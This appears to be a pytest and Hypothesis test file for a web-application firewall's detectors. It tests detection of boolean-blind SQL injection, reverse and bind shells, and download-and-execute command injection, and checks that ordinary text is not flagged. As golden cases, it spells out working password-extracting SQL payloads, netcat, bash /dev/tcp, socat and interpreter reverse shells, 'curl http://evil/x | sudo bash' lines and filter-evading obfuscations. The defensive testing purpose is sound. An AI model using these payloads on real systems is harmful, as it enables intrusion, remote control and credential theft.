"""Issue 13: boolean-blind SQL injection through a subquery, and command injection that opens a
shell over the network (reverse shells, a download piped into a shell). Golden tables with a
comment per case, mutations that must still be found, benign text that must not be, and
adversarial inputs that must stay linear."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edgewatch.security import cmdi, remote_shell, sqli
from edgewatch.security.decode import decode
from edgewatch.security.threats import Action, Mode, RequestSample, ThreatPolicy, detect

POLICY = ThreatPolicy(Mode.BLOCK)


def sqli_rules(value: str) -> set[str]:
    return {f.rule for f in sqli.scan(decode(value, form=True).text)}


def cmdi_rules(value: str) -> set[str]:
    return {f.rule for f in cmdi.scan(decode(value, form=True).text)}


# --- boolean-blind SQL injection -------------------------------------------------------------

BLIND = [
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'",  # the brief's first shape
    "' AND (SELECT COUNT(*) FROM users) > 0 --",  # string context, compared, comment
    "1 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64",  # a function of a subquery
    "x' OR EXISTS(SELECT 1 FROM users)-- ",  # EXISTS
    "1 AND 1=(SELECT 1 FROM dual WHERE 1=1)",  # compared on the right
    "1 and exists (select 1 from users where id=1 and substr(password,1,1)='a')",  # EXISTS, a space
    "1 AND NOT EXISTS(SELECT 1 FROM users)",  # NOT EXISTS
    "1 AND 1 IN (SELECT 1 FROM users)",  # IN (subquery)
    "1 AND 'a'=(SELECT SUBSTRING(password,1,1) FROM users)",  # a string compared with it
    "1 AND IF((SELECT 1 FROM users)=1,1,0)",  # IF(subquery ...)
    "1 AND ELT(1,(SELECT 1 FROM users))",  # a subquery as a later argument
    "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",  # CASE inside
    "1 AND LENGTH((SELECT database()))>3",  # nested parentheses
    "1' AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users LIMIT 0,1),1,1))>64 AND 'a'='a",  # sqlmap
    "1 AND 1=1 AND (SELECT 1 FROM users)=1",  # after another condition
    "abc') AND (SELECT 1 FROM users)=('1",  # closes a parenthesis first
    'foo" AND (SELECT 1 FROM users)="1',  # double-quoted context
    "1'||(SELECT 1 FROM dual)||'",  # || as OR
    "1 && (select 1)=1",  # && as AND
    "1 XOR (SELECT 1)=1",  # XOR
    "-1' OR (SELECT 1 FROM users)#",  # negative number, MySQL comment
    "1 or(select(1)from(users))=1",  # parentheses for spaces
    "1 AND (SELECT TOP 1 name FROM sysobjects)='a'",  # MSSQL
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",  # dotted name
    "1 RLIKE (SELECT 1 FROM users)",  # a comparison word, no AND
    "admin AND (SELECT 1 FROM users)=1",  # a bare word context
    "x AND 1=(SELECT 1)",  # a bare word compared with a subquery
    "name AND EXISTS(SELECT 1 FROM users)",  # a bare word, EXISTS
    "1/**/AND/**/(SELECT/**/COUNT(*)/**/FROM/**/users)>0",  # comments for spaces
    "1 AND/*!50000(SELECT*/ 1)=1",  # a MySQL versioned comment
    "1 AND#x\n(SELECT 1 FROM users)=1",  # a # comment ended by a newline
    "1 AND-- x\n(SELECT 1 FROM users)=1",  # a -- comment ended by a newline
    "1%20AND%20(SELECT%20SUBSTRING(password,1,1)%20FROM%20users)%3D'a'",  # URL-encoded
    "1%2520AND%2520(SELECT%25201)%253D1",  # double-encoded
    "1+AND+(SELECT+1+FROM+users)%3D1",  # a form value, + for space
    "\uff11 \uff21\uff2e\uff24 \uff08\uff33\uff25\uff2c\uff25\uff23\uff34 \uff11\uff09\uff1d\uff11",  # fullwidth: NFKC
    "1\tAND\n(SELECT\t1)=1",  # tabs and newlines
]


@pytest.mark.parametrize("value", BLIND)
def test_blind_subquery_is_found(value: str) -> None:
    assert "sqli.blind_subquery" in sqli_rules(value)


@pytest.mark.parametrize("value", BLIND)
def test_blind_subquery_blocks_as_sqli_in_a_query(value: str) -> None:
    verdict = detect(RequestSample("GET", "/items", "id=" + quote(value), {}), POLICY)
    assert verdict.action is Action.BLOCK and verdict.primary == "sqli"


SQL_PROSE = [
    "select a size and color",  # the brief's examples of ordinary search text
    "where is my order",
    "2 and select from the menu",  # a SELECT in a condition is always parenthesised
    "1 or 2 scoops (select flavour)",  # a number, OR, and a parenthesised word that is no subquery
    "Ask Tom: is (select count) faster than exists?",
    "exists (the band) - live album",
    "A and (B or C)",
    "Select (from the drop-down) the size, then pick a colour",
    "how to count rows from a table where id is null",
    "sizes and (selected) colours",
    "cats and (select one) dogs",  # a bare word, AND, but no comparison, function or FROM
    "SELECT id FROM users WHERE id IN (SELECT user_id FROM orders)",  # a statement, not a break-out
]


@pytest.mark.parametrize("value", SQL_PROSE)
def test_sql_prose_is_not_blind_injection(value: str) -> None:
    assert sqli_rules(value) == set()
    assert detect(RequestSample("GET", "/search", "q=" + quote(value), {}), POLICY).score < POLICY.record_score


# Separators an attacker puts between SQL tokens; each decodes to something the tokeniser skips.
SQL_GAPS = [" ", "  ", "\t", "\n", "/**/", "/*x*/", "%20", "+", "%0a", "%09", "%2f%2a%2a%2f", "\r\n"]
BLIND_TEMPLATES = [
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64",
    "x' OR EXISTS(SELECT 1 FROM users)-- ",
    "1 AND 1=(SELECT 1 FROM dual WHERE 1=1)",
    "admin AND (SELECT 1 FROM users)=1",
]


@st.composite
def mutated_blind(draw: st.DrawFn) -> str:
    template = draw(st.sampled_from(BLIND_TEMPLATES))
    parts = template.split(" ")
    out = parts[0]
    for part in parts[1:]:
        out += draw(st.sampled_from(SQL_GAPS)) + part
    cased = "".join(c.upper() if draw(st.booleans()) else c.lower() for c in out)
    encoding = draw(st.sampled_from(["none", "once", "twice"]))
    if encoding == "once":  # "+" stays as sent: a space in a form, which %2B would not be
        return quote(cased, safe="+")
    if encoding == "twice":
        return quote(quote(cased, safe="+"), safe="+")
    return cased


@settings(max_examples=400, deadline=None)
@given(mutated_blind())
def test_case_whitespace_comment_and_encoding_mutations_are_still_found(value: str) -> None:
    assert "sqli.blind_subquery" in sqli_rules(value), decode(value, form=True).text


# Ordinary words, SQL and shell words that ordinary text uses, numbers and prose punctuation.
WORDS = [
    *("select", "a", "size", "and", "color", "cat", "dog", "where", "is", "my", "order", "from", "the", "menu"),
    *("or", "not", "exists", "by", "curl", "up", "with", "book", "nc", "state", "python", "perl", "bash"),
    *("shell", "socket", "connect", "telnet", "pipe", "wget", "1", "2", "10", "in", "like", "between"),
    *("null", "true", "tea", "for", "two", "count", "rows", "table", "new", "old", "best"),
]
benign_text = st.lists(
    st.tuples(st.sampled_from(WORDS), st.sampled_from([" ", " ", " ", ", ", ". ", " - ", "? ", ": "])),
    min_size=1,
    max_size=14,
).map(lambda pairs: "".join(word + gap for word, gap in pairs).strip())


@settings(max_examples=500, deadline=None)
@given(benign_text)
def test_random_benign_words_do_not_trigger(text: str) -> None:
    assert "sqli.blind_subquery" not in sqli_rules(text)
    assert remote_shell.scan(decode(text).text) == []
    verdict = detect(RequestSample("GET", "/search", "q=" + quote(text), {}), POLICY)
    assert verdict.action is not Action.BLOCK, verdict.to_json()


# --- network shells --------------------------------------------------------------------------

SHELLS = [
    ("; nc -e /bin/sh 10.0.0.1 4444", "cmdi.reverse_shell"),  # netcat runs a shell
    ("| ncat 10.0.0.1 4444 -e /bin/bash", "cmdi.reverse_shell"),  # the flag after the address
    ("x; nc -lvnp 4444 -e /bin/bash", "cmdi.reverse_shell"),  # a bind shell
    ("x; ncat --exec cmd.exe 10.0.0.1 4444", "cmdi.reverse_shell"),  # Windows, long option
    ("x && nc.traditional -c bash 10.0.0.1 4444", "cmdi.reverse_shell"),  # -c, a named build
    ("; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "cmdi.reverse_shell"),  # bash's /dev/tcp
    ("x; 0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196", "cmdi.reverse_shell"),
    ("| telnet host 4444 | /bin/sh | telnet host 4445", "cmdi.reverse_shell"),  # telnet pipe
    ("; mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f", "cmdi.reverse_shell"),  # fifo
    ("a; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "cmdi.reverse_shell"),
    ("x; openssl s_client -quiet -connect h:4444 | /bin/bash", "cmdi.reverse_shell"),  # TLS
    ("; socat exec:'bash -li',pty,stderr,setsid tcp:10.0.0.1:4444", "cmdi.reverse_shell"),  # socat
    ("x; socat tcp-connect:10.0.0.1:4444 system:sh", "cmdi.reverse_shell"),  # socat system:
    (
        '; python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));'
        'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
        "cmdi.reverse_shell",
    ),
    (
        '; perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i")\'',
        "cmdi.reverse_shell",
    ),
    ('; php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', "cmdi.reverse_shell"),
    (
        '; ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
        "cmdi.reverse_shell",
    ),
    ("$(curl http://x/s.sh | sh)", "cmdi.download_exec"),  # substitution
    ("`wget -qO- http://x | bash`", "cmdi.download_exec"),  # backticks
    ("127.0.0.1; curl -s http://evil/x | sudo bash", "cmdi.download_exec"),  # after a separator
    ("x && wget -O - http://evil/p.py | python3", "cmdi.download_exec"),  # into an interpreter
    ("hello there; curl http://evil/s | bash", "cmdi.download_exec"),  # in prose: 80, still blocks
    (";n''c${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4444", "cmdi.reverse_shell"),  # quotes, ${IFS}
    ("x;nc$IFS-e$IFS/bin/sh$IFS10.0.0.1$IFS4444", "cmdi.reverse_shell"),  # $IFS
    ("$(c\\url${IFS}http://x/s|s'h')", "cmdi.download_exec"),  # a backslash in the command word
    ('; w"g"et -qO- http://x | b\\ash', "cmdi.download_exec"),
    ("%3B%20nc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444", "cmdi.reverse_shell"),  # URL-encoded
    ("%253B%2520nc%2520-e%2520%252Fbin%252Fsh%252010.0.0.1%25204444", "cmdi.reverse_shell"),  # twice
]


@pytest.mark.parametrize(("value", "rule"), SHELLS)
def test_network_shell_is_found(value: str, rule: str) -> None:
    assert rule in cmdi_rules(value)


@pytest.mark.parametrize(("value", "rule"), SHELLS)
def test_network_shell_blocks_as_cmdi_in_a_query(value: str, rule: str) -> None:
    verdict = detect(RequestSample("GET", "/ping", "host=" + quote(value), {}), POLICY)
    assert verdict.action is Action.BLOCK and verdict.primary == "cmdi"
    assert rule in {hit.rule for hit in verdict.hits}


def test_download_score_depends_on_the_position() -> None:
    def score(value: str) -> float:
        return max(f.score for f in remote_shell.scan(decode(value).text) if f.rule == "cmdi.download_exec")

    assert score("$(curl http://x | sh)") == 90
    assert score("127.0.0.1; curl http://x | sh") == 90
    assert score("hello there; curl http://x | sh") == 80


def test_excerpt_span_points_into_the_quoted_text() -> None:
    text = decode(";n''c -e /bin/sh 10.0.0.1 4444").text
    [finding] = remote_shell.scan(text)
    assert text[finding.start : finding.end].startswith("n''c -e /")


SHELL_PROSE = [
    "curl https://get.example | bash",  # an install instruction, quoted in a post
    "run: curl https://get.example | sh",
    "docs: wget -qO- https://x | tar xz",  # a download piped into tar
    "curl up with a book",
    "nc state",
    "NC State vs Duke | tickets",
    "cat and dog",
    "Netcat Cat Tower (large)",
    "use nc -e to run a program",  # -e names no program
    "nc -h lists the options",
    "socat vs netcat",
    "socat is a tool",
    "telnet is an old protocol",
    "perl -e 'print 1'",  # an interpreter one-liner without a socket
    "python -c 'import socket; print(socket.gethostname())'",  # a socket, but no shell
    "i love python -c style one-liners, sockets and sh",
    "since once functions connect | share",
    "shell scripting for beginners | bash course",
    "pipe curl output to jq | example",
    "fish | nc state",  # "sh" inside a word is no shell
]


@pytest.mark.parametrize("value", SHELL_PROSE)
def test_shell_prose_is_not_a_network_shell(value: str) -> None:
    assert remote_shell.scan(decode(value).text) == []
    assert detect(RequestSample("GET", "/search", "q=" + quote(value), {}), POLICY).action is not Action.BLOCK


SHELL_TEMPLATES = [
    ("; nc -e /bin/sh 10.0.0.1 4444", ["nc"], "cmdi.reverse_shell"),
    ("| ncat 10.0.0.1 4444 -e /bin/bash", ["ncat"], "cmdi.reverse_shell"),
    ("$(curl http://x/s.sh | sh)", ["curl", "sh"], "cmdi.download_exec"),
    ("`wget -qO- http://x | bash`", ["wget", "bash"], "cmdi.download_exec"),
    ("| telnet host 4444 | /bin/sh | telnet host 4445", ["telnet"], "cmdi.reverse_shell"),
    ("; socat exec:'bash -li',pty tcp:10.0.0.1:4444", ["socat"], "cmdi.reverse_shell"),
    ("; mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f", ["nc"], "cmdi.reverse_shell"),
]
SHELL_GAPS = [" ", "\t", "${IFS}", "$IFS$9", "  "]


@st.composite
def mutated_shell(draw: st.DrawFn) -> tuple[str, str]:
    template, words, rule = draw(st.sampled_from(SHELL_TEMPLATES))
    for word in words:  # split a command word with quotes or a backslash, as a shell allows
        cut = draw(st.integers(min_value=1, max_value=len(word) - 1))
        trick = draw(st.sampled_from(["", "''", '""', "\\"]))
        template = template.replace(word, word[:cut] + trick + word[cut:], 1)
    out = "".join(draw(st.sampled_from(SHELL_GAPS)) if c == " " else c for c in template)
    out = "".join(c.upper() if draw(st.booleans()) else c for c in out)
    if draw(st.booleans()):
        out = quote(out, safe="")
    return out, rule


@settings(max_examples=400, deadline=None)
@given(mutated_shell())
def test_quote_ifs_case_and_encoding_mutations_are_still_found(case: tuple[str, str]) -> None:
    value, rule = case
    assert rule in cmdi_rules(value), decode(value, form=True).text


# --- linear time -----------------------------------------------------------------------------

# Each must take milliseconds; the deadline is a safety net (the benchmark measures). The values are
# longer than the guard's 8 KiB bound, so that a quadratic pattern would show.
ADVERSARIAL = {
    "nc-runs": "nc " * 20_000,
    "nc-dash": "nc -" * 15_000,
    "nc-flags": "nc " + "-x " * 20_000,
    "pipes": "nc |" * 15_000,
    "shell-pipes": "sh|" * 20_000,
    "paths": "/a" * 30_000 + "sh",
    "slashes": "/" * 60_000,
    "curl-runs": "curl " * 12_000 + "| sh",
    "socat-runs": "socat " * 10_000,
    "interpreter": "python -c " * 6_000,
    "sockets": "perl -e " + "socket( " * 8_000,
    "quotes": "n''" * 20_000,
    "ifs": "${IFS}" * 10_000,
    "and-select": "1 and (select " * 5_000,
    "and-function": "1 and f(" * 8_000,
    "and-parens": "1 and " + "(" * 60_000,
    "word-and": "x and 1=" * 8_000,
    "comments": "1 and#\n" * 8_000,
    "dash-comments": "1 and-- \n" * 6_000,
}


@pytest.mark.parametrize("text", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_adversarial_input_finishes(text: str) -> None:
    started = time.perf_counter()
    sqli.scan(text)
    cmdi.scan(text)
    remote_shell.scan(text)
    detect(RequestSample("POST", "/x", "q=" + quote(text[:8000]), {}, text, "text/plain"), POLICY)
    assert time.perf_counter() - started < 5.0
